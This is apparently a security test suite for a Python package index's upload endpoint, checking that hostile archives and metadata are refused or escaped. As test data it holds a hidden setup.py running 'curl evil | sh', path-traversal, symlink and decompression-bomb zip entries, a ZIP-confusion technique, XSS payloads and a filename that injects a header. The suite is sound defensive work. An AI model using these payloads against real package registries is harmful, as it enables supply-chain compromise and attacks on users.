"""Outside review of upload_strictness (commits 1cea4da..fd78c54): hostile files and forms sent
through POST /legacy/ of the in-process app, under ``pypi`` and ``lenient``. Each test asserts the
secure behaviour; a refusal must say why and leave nothing behind (``refused``)."""

from __future__ import annotations

import io
import json
import socket
import struct
import tarfile
import zipfile
from pathlib import Path

import pytest

from bastion.packaging import checks
from bastion.packaging.errors import UploadRejected
from tests.conftest import make_user, post_upload, snapshot_state
from tests.distbuilder import make_sdist, make_wheel, make_zip_sdist, metadata_text, upload_form, zip_bytes
from tests.unit.uploads import accepted, refused, simple_json


@pytest.fixture
def lenient(bastion_with):  # type: ignore[no-untyped-def]
    return bastion_with(upload_strictness="lenient")


def _zip_sdist_bytes(members: dict[str, bytes], *, symlink: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        if symlink is not None:
            info = zipfile.ZipInfo(symlink)
            info.create_system = 3
            info.external_attr = (0o120777 << 16)
            archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def _hide_last_entry(data: bytes) -> bytes:
    """Drop the last central-directory record: its local entry stays in the file, unlisted, between
    the listed entries and the central directory (what a streaming extractor still unpacks)."""
    eocd = data.rindex(b"PK\x05\x06")
    sig, disk, cd_disk, n_disk, n_total, cd_size, cd_off, comment = struct.unpack("<4s4H2LH", data[eocd:eocd + 22])
    cd = data[cd_off:cd_off + cd_size]
    records, pos = [], 0
    while pos < len(cd):
        name_len, extra_len, comment_len = struct.unpack("<3H", cd[pos + 28:pos + 34])
        size = 46 + name_len + extra_len + comment_len
        records.append(cd[pos:pos + size])
        pos += size
    kept = b"".join(records[:-1])
    tail = struct.pack("<4s4H2LH", sig, disk, cd_disk, n_disk - 1, n_total - 1, len(kept), cd_off, comment)
    return data[:cd_off] + kept + tail + data[eocd + 22:]


PKG_INFO = metadata_text("hello-world", "1.0").encode()


# -- zip sdists under lenient: the archive checks still hold --------------------------------------

def test_lenient_zip_sdist_with_an_unlisted_local_entry_is_refused(lenient, tmp_path) -> None:
    """ZIP confusion: a local entry that the central directory does not list (here a setup.py after
    the last listed member) is invisible to zipfile, the scanner and the index, but unpacked by
    streaming extractors. The README promises ZIP confusion is refused."""
    bastion, client = lenient
    token = make_user(bastion, "alice")
    data = zip_bytes({"hello_world-1.0/PKG-INFO": PKG_INFO,
                      "hello_world-1.0/setup.py": b"import os; os.system('curl evil | sh')\n"})
    path = tmp_path / "hello_world-1.0.zip"
    path.write_bytes(_hide_last_entry(data))
    assert zipfile.ZipFile(path).namelist() == ["hello_world-1.0/PKG-INFO"]  # the hidden entry is unlisted
    refused(client, bastion, token, path, upload_form(path, "hello-world", "1.0"), 400, "hello_world-1.0.zip")


def test_lenient_hostile_zip_sdists_are_refused(bastion_with, tmp_path) -> None:
    bastion, client = bastion_with(upload_strictness="lenient", bomb_floor=1024 * 1024)
    token = make_user(bastion, "alice")
    top = "hello_world-1.0"
    cases: dict[str, tuple[bytes, str]] = {
        "traversal": (_zip_sdist_bytes({f"{top}/PKG-INFO": PKG_INFO, f"{top}/../../evil.py": b"x"}), "'..'"),
        "absolute": (_zip_sdist_bytes({f"{top}/PKG-INFO": PKG_INFO, "/etc/cron.d/evil": b"x"}), "absolute"),
        "backslash": (_zip_sdist_bytes({f"{top}/PKG-INFO": PKG_INFO, f"{top}\\..\\evil.py": b"x"}), "backslash"),
        "symlink": (_zip_sdist_bytes({f"{top}/PKG-INFO": PKG_INFO}, symlink=f"{top}/link"), "symlink"),
        "two-tops": (_zip_sdist_bytes({f"{top}/PKG-INFO": PKG_INFO, "other-1.0/PKG-INFO": PKG_INFO}),
                     "one top-level directory"),
        "bomb": (_zip_sdist_bytes({f"{top}/PKG-INFO": PKG_INFO, f"{top}/zeros": b"\0" * (8 * 1024 * 1024)}),
                 "decompression bomb"),
        "no-pkg-info": (_zip_sdist_bytes({f"{top}/setup.py": b"x"}), "PKG-INFO is missing"),
    }
    for case, (data, needle) in cases.items():
        path = tmp_path / case / f"{top}.zip"
        path.parent.mkdir()
        path.write_bytes(data)
        refused(client, bastion, token, path, upload_form(path, "hello-world", "1.0"), 400, needle)


def test_lenient_zip_tar_polyglot_and_disguised_archives_are_refused(lenient, tmp_path) -> None:
    bastion, client = lenient
    token = make_user(bastion, "alice")
    tar_path = make_sdist(tmp_path, "hello-world", "1.0")
    tarball = tar_path.read_bytes()
    # A .zip that is a tar.gz, and a tar.gz with a zip appended (both a gzip and a zip archive).
    disguised = tmp_path / "d" / "hello_world-1.0.zip"
    disguised.parent.mkdir()
    disguised.write_bytes(tarball)
    refused(client, bastion, token, disguised, upload_form(disguised, "hello-world", "1.0"), 400,
            "a .zip sdist must be a zip archive")
    polyglot = tmp_path / "p" / "hello_world-1.0.zip"
    polyglot.parent.mkdir()
    polyglot.write_bytes(tarball + zip_bytes({"hello_world-1.0/PKG-INFO": PKG_INFO}))
    refused(client, bastion, token, polyglot, upload_form(polyglot, "hello-world", "1.0"), 400,
            "Invalid distribution file")
    zip_as_tar = make_zip_sdist(tmp_path, "hello-world", "1.0", filename="hello_world-1.0.tar.gz")
    refused(client, bastion, token, zip_as_tar, upload_form(zip_as_tar, "hello-world", "1.0"), 400,
            "gzip-compressed tar archive")


# -- names: the name guard and other owners' projects ---------------------------------------------

def test_lenient_files_cannot_land_in_another_owner_s_project(lenient, tmp_path) -> None:
    bastion, client = lenient
    victim = make_user(bastion, "victim")
    attacker = make_user(bastion, "mallory")
    accepted(client, victim, make_sdist(tmp_path, "hello-world", "1.0"), "hello-world", "1.0")
    before = simple_json(client, "hello-world")
    def fresh(name: str) -> Path:
        directory = tmp_path / name
        directory.mkdir()
        return directory

    # 1. PKG-INFO and filename of the victim's project, legacy spellings only lenient accepts.
    for i, (filename, form_name) in enumerate([("Hello.World-2.0.zip", "Hello.World"),
                                               ("HELLO_WORLD-2.0.zip", "hello_world")]):
        path = make_zip_sdist(fresh(str(i)), "hello-world", "2.0", filename=filename)
        refused(client, bastion, attacker, path, upload_form(path, form_name, "2.0"), 403)
    # 2. Own form name, the victim's PKG-INFO.
    path = make_zip_sdist(fresh("own-form"), "hello-world", "2.0", filename="mallory_pkg-2.0.zip")
    refused(client, bastion, attacker, path, upload_form(path, "mallory-pkg", "2.0"), 400,
            "does not match the name 'hello-world'")
    # 3. Own PKG-INFO, the victim's name in the filename (legacy sdist and non-normalized wheel).
    sdist = make_zip_sdist(fresh("own-pkg-info"), "mallory-pkg", "2.0", filename="hello-world-2.0.zip")
    refused(client, bastion, attacker, sdist, upload_form(sdist, "mallory-pkg", "2.0"), 400,
            "Start filename for 'mallory-pkg'")
    wheel = make_wheel(tmp_path, "mallory-pkg", "2.0", filename="Hello_World-2.0-py3-none-any.whl")
    refused(client, bastion, attacker, wheel, upload_form(wheel, "mallory-pkg", "2.0"), 400,
            "Start filename for 'mallory-pkg'")
    assert simple_json(client, "hello-world") == before


def test_lenient_name_guard_refuses_stdlib_and_prohibited_names(bastion_with, tmp_path) -> None:
    bastion, client = bastion_with(upload_strictness="lenient", prohibited_names=["acme-internal"])
    token = make_user(bastion, "mallory")
    for i, (name, filename) in enumerate([("json", "JSON-1.0.zip"), ("Acme.Internal", "Acme.Internal-1.0.tar.gz"),
                                          ("acme_internal", "acme_internal-1.0-1.tar.gz")]):
        directory = tmp_path / str(i)
        directory.mkdir()
        version = "1.0.post1" if filename.endswith("-1.tar.gz") else "1.0"
        if filename.endswith(".zip"):
            path = make_zip_sdist(directory, name, version, filename=filename)
        else:
            path = make_sdist(directory, name, version, filename=filename, top=filename[: -len(".tar.gz")])
        response = refused(client, bastion, token, path, upload_form(path, name, version), 400)
        assert "name" in response.text.lower()


# -- versions: local versions, hyphenated sdist versions, "File already exists" ---------------------

def test_lenient_local_versions_and_legacy_spellings_do_not_replace_files(lenient, tmp_path) -> None:
    bastion, client = lenient
    token = make_user(bastion, "alice")
    accepted(client, token, make_wheel(tmp_path, "hello-world", "1.0"), "hello-world", "1.0")
    local = make_wheel(tmp_path, "hello-world", "1.0+x")
    accepted(client, token, local, "hello-world", "1.0+x")
    versions = set(json.loads(client.get("/pypi/hello-world/json").content)["releases"])
    assert versions == {"1.0", "1.0+x"}  # a release of its own, never merged into 1.0
    # The same filename with other bytes: "File already exists", not a replacement.
    other = tmp_path / "other"
    other.mkdir()
    changed = make_wheel(other, "hello-world", "1.0+x", files={"hello_world/extra.py": b"X = 2\n"})
    assert changed.name == local.name
    refused(client, bastion, token, changed, upload_form(changed, "hello-world", "1.0+x"), 400,
            "File already exists")
    # Two sdist filenames of one release (a hyphenated version and its PEP 440 spelling).
    first = make_sdist(tmp_path, "hello-world", "2.0.post1", filename="hello-world-2.0-1.tar.gz",
                       top="hello-world-2.0-1")
    accepted(client, token, first, "hello-world", "2.0.post1")
    second = make_sdist(tmp_path, "hello-world", "2.0.post1")
    refused(client, bastion, token, second, upload_form(second, "hello-world", "2.0.post1"), 400,
            "Only one sdist may be uploaded per release")


def test_lenient_sdist_filename_with_whitespace_in_its_version_is_refused(lenient, tmp_path) -> None:
    """PEP 440 parsing strips surrounding whitespace, so 'hello-world-1.0\\u00a0.tar.gz' and
    'hello-world- 1.0.tar.gz' name version 1.0 under lenient: look-alike filenames for one release
    (and a way around 'filenames cannot be reused'). pip's own filename parsing refuses them."""
    bastion, client = lenient
    token = make_user(bastion, "alice")
    for i, filename in enumerate(["hello-world-1.0\u00a0.tar.gz", "hello-world- 1.0.tar.gz",
                                  "hello-world-1.0\u2028.zip", "hello_world-1.0\u00a0-py3-none-any.whl"]):
        directory = tmp_path / str(i)
        directory.mkdir()
        if filename.endswith(".zip"):
            path = make_zip_sdist(directory, "hello-world", "1.0", filename=filename)
        elif filename.endswith(".whl"):
            path = make_wheel(directory, "hello-world", "1.0", filename=filename)
        else:
            path = make_sdist(directory, "hello-world", "1.0", filename=filename, top="hello-world-1.0")
        refused(client, bastion, token, path, upload_form(path, "hello-world", "1.0"), 400, "filename")


def test_name_version_from_filename_gives_no_whitespace() -> None:
    """The names and versions it gives are written into synthesized metadata headers."""
    for filename in ("foo-\n1.0.tar.gz", "foo-1.0\n.tar.gz", "foo-\u20281.0.zip", "foo- 1.0.tar.gz"):
        assert checks.name_version_from_filename(filename) is None, filename
    assert checks.name_version_from_filename("foo-1.0.tar.gz") == ("foo", "1.0")


# -- hostile metadata ------------------------------------------------------------------------------

def _no_raise(client):  # type: ignore[no-untyped-def]
    """The same app, answering a server error with a 500 as a real server does."""
    from starlette.testclient import TestClient

    return TestClient(client.app, base_url="http://testserver", raise_server_exceptions=False)


def _nested_marker(depth: int = 2000) -> str:
    return "attrs; " + "(" * depth + "python_version > '1'" + ")" * depth


@pytest.mark.parametrize("strictness", ["pypi", "lenient"])
def test_a_deeply_nested_requires_dist_marker_in_the_file_is_refused_not_a_500(bastion_with, tmp_path,
                                                                                strictness) -> None:
    bastion, client = bastion_with(upload_strictness=strictness)
    token = make_user(bastion, "alice")
    path = make_wheel(tmp_path, "hello-world", "1.0", metadata=metadata_text(
        "hello-world", "1.0", extra=f"Requires-Dist: {_nested_marker()}\n"))
    refused(_no_raise(client), bastion, token, path, upload_form(path, "hello-world", "1.0"), 400, "Invalid metadata")


def test_a_deeply_nested_requires_dist_in_the_form_is_refused_not_a_500(client, bastion, tmp_path) -> None:
    token = make_user(bastion, "alice")
    path = make_wheel(tmp_path, "hello-world", "1.0")
    form = {**upload_form(path, "hello-world", "1.0"), "requires_dist": [_nested_marker()]}
    refused(_no_raise(client), bastion, token, path, form, 400, "requires_dist")  # type: ignore[arg-type]


def test_lenient_requires_python_given_twice_is_not_dropped_from_the_index(lenient, tmp_path) -> None:
    """'Requires-Python: >=3.99' twice: lenient leaves the field out, so the index serves the file
    with no data-requires-python to every interpreter, while pip, reading the METADATA, takes the
    first value. Either refuse the file or serve the value; never serve it unrestricted."""
    bastion, client = lenient
    token = make_user(bastion, "alice")
    path = make_wheel(tmp_path, "hello-world", "1.0", metadata=metadata_text(
        "hello-world", "1.0", extra="Requires-Python: >=3.99\nRequires-Python: >=3.99\n"))
    before = snapshot_state(bastion)
    response = post_upload(client, token, path, upload_form(path, "hello-world", "1.0"))
    if response.status_code == 200:
        assert simple_json(client, "hello-world")["files"][0]["requires-python"] == ">=3.99"
    else:
        assert response.status_code == 400 and "requires-python" in response.text.lower()
        assert snapshot_state(bastion) == before


def test_a_body_description_indented_like_a_header_fold_is_served_as_written(client, bastion, tmp_path) -> None:
    """Metadata 2.1 with the description in the body: a Markdown code block right after the first
    line must not be "unfolded" into live Markdown (the JSON API and the page would show another text
    than the file's)."""
    token = make_user(bastion, "alice")
    body = "Usage:\n\n        [docs](https://evil.example/phish)\n        <img src=x>\n"
    path = make_wheel(tmp_path, "hello-world", "1.0", metadata=metadata_text(
        "hello-world", "1.0", content_type="text/markdown", description=body))
    accepted(client, token, path, "hello-world", "1.0")
    info = json.loads(client.get("/pypi/hello-world/json").content)["info"]
    assert info["description"] == body
    page = client.get("/projects/hello-world/").text
    assert 'href="https://evil.example/phish"' not in page


def test_lenient_hostile_text_in_fields_is_escaped_everywhere(lenient, tmp_path) -> None:
    bastion, client = lenient
    token = make_user(bastion, "alice")
    script = "<script>alert(1)</script>"
    metadata = metadata_text(
        "hello-world", "1.0", summary=f"x\"'>{script}", content_type="text/html",
        extra=("Requires-Python: ===1\"'><b/onmouseover=alert`1`>\n"
               f"Keywords: {script}\nClassifier: {script}\nRequires-Dist: a >=< {script}\n"
               f"Project-URL: Home, javascript:alert(1)\nHome-page: javascript:alert(1)\n"),
        description=f"{script}\n<img src=x onerror=alert(1)>\n")
    path = make_sdist(tmp_path, "hello-world", "1.0", metadata=metadata)
    accepted(client, token, path, "hello-world", "1.0")
    simple = client.get("/simple/hello-world/").text
    project = client.get("/projects/hello-world/").text
    release = client.get("/projects/hello-world/1.0/")
    for text in (simple, project, release.text if release.status_code == 200 else ""):
        assert "<script>alert" not in text and "<img src=x" not in text and "<b/onmouseover" not in text
        assert 'href="javascript:' not in text.lower()
    # A valid (arbitrary-equality) specifier full of markup is served, as data, escaped.
    assert simple_json(client, "hello-world")["files"][0]["requires-python"] == "===1\"'><b/onmouseover=alert`1`>"
    assert 'data-requires-python="===1&quot;&#x27;&gt;&lt;b/onmouseover=alert`1`&gt;"' in simple


def test_lenient_metadata_version_that_no_tool_wrote_is_refused() -> None:
    """Lenient reads an old tool's unofficial number (2.0, 1.3) by the next real version's rules; an
    epoch, a 'v' prefix or a local label is no metadata version any tool wrote."""
    for declared in ("2!2.1", "v2.1", "2.1+evil"):
        data = f"Metadata-Version: {declared}\nName: hello-world\nVersion: 1.0\n".encode()
        with pytest.raises(UploadRejected, match="not a valid metadata version"):
            checks.read_core_metadata(data, "hello_world-1.0-py3-none-any.whl", checks.LENIENT)


def test_hostile_metadata_is_read_in_bounded_time() -> None:
    import time

    base = "Metadata-Version: 1.2\nName: hello-world\nVersion: 1.0\n"
    cases = [base + "Description: x\n" + "        y\n" * 200_000,
             base + "Summary: s\n" * 100_000,
             base + "Keywords: " + ",\t " * 500_000 + "\n"]
    for text in cases:
        start = time.monotonic()
        try:
            core = checks.read_core_metadata(text.encode(), "x.tar.gz", checks.LENIENT)
            checks.check_form_agrees({"name": "hello-world", "version": "1.0", "keywords": ", " * 500_000},
                                     core.metadata, {"keywords": [" ,a" * 200_000]})
        except UploadRejected:
            pass
        assert time.monotonic() - start < 5


# -- the form ----------------------------------------------------------------------------------------

def test_more_repeated_form_fields_than_allowed_are_refused(lenient, tmp_path) -> None:
    bastion, client = lenient
    token = make_user(bastion, "alice")
    path = make_wheel(tmp_path, "hello-world", "1.0")
    form = {**upload_form(path, "hello-world", "1.0"), "classifiers": ["Programming Language :: Python"] * 20_001}  # above MAX_FIELDS (routes.py)
    refused(client, bastion, token, path, form, 400, "Invalid upload form")  # type: ignore[arg-type]


def test_filename_with_a_newline_is_refused_before_any_metadata_is_synthesized(lenient, tmp_path) -> None:
    """Over HTTP an sdist without PKG-INFO is never named by its filename (name_from_filename is for
    imports), whatever the filename: no header can be injected into synthesized metadata."""
    bastion, client = lenient
    token = make_user(bastion, "alice")
    path = tmp_path / "x.tar.gz"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        info = tarfile.TarInfo("hello-world-1.0/setup.py")
        info.size = 1
        archive.addfile(info, io.BytesIO(b"x"))
    path.write_bytes(buffer.getvalue())
    for filename in ("hello-world\n-1.0.tar.gz", "hello-world-1.0\nRequires-Python: >=9\n.tar.gz"):
        response = refused(client, bastion, token, path, upload_form(path, "hello-world", "1.0"), 400,
                           filename=filename)
        assert "control characters" in response.text or "PKG-INFO is missing" in response.text


def test_a_lenient_upload_makes_no_outgoing_network_connection(lenient, tmp_path, monkeypatch) -> None:
    bastion, client = lenient
    token = make_user(bastion, "alice")
    outgoing: list[object] = []
    real_connect = socket.socket.connect

    def connect(self, address):  # type: ignore[no-untyped-def]
        host = address[0] if isinstance(address, tuple) else None
        if self.family != socket.AF_UNIX and host not in ("127.0.0.1", "::1", "localhost"):
            outgoing.append(address)
            raise OSError("outgoing connection refused by the test")
        return real_connect(self, address)

    monkeypatch.setattr(socket.socket, "connect", connect)
    metadata = metadata_text(
        "hello-world", "1.0", content_type="text/markdown",
        extra=("Home-page: https://example.invalid/\nProject-URL: Source, https://example.invalid/src\n"
               "Download-URL: https://example.invalid/dl.tar.gz\nRequires-Dist: attrs @ https://example.invalid/a.whl\n"
               "License-File: LICENSE\n"),
        description="![badge](https://example.invalid/badge.svg)\n")
    path = make_zip_sdist(tmp_path, "hello-world", "1.0", metadata=metadata)
    accepted(client, token, path, "hello-world", "1.0")
    assert client.get("/projects/hello-world/").status_code == 200
    assert outgoing == []


def test_pypi_wheel_filename_with_whitespace_in_its_version_is_refused(client, bastion, tmp_path) -> None:
    """'hello_world-1.0\\u00a0-py3-none-any.whl' is not a PEP 427 name (pip's wheel filename pattern
    refuses whitespace), yet parse_wheel_filename reads version 1.0: a look-alike of the real wheel."""
    token = make_user(bastion, "alice")
    path = make_wheel(tmp_path, "hello-world", "1.0", filename="hello_world-1.0\u00a0-py3-none-any.whl")
    refused(client, bastion, token, path, upload_form(path, "hello-world", "1.0"), 400, "filename")
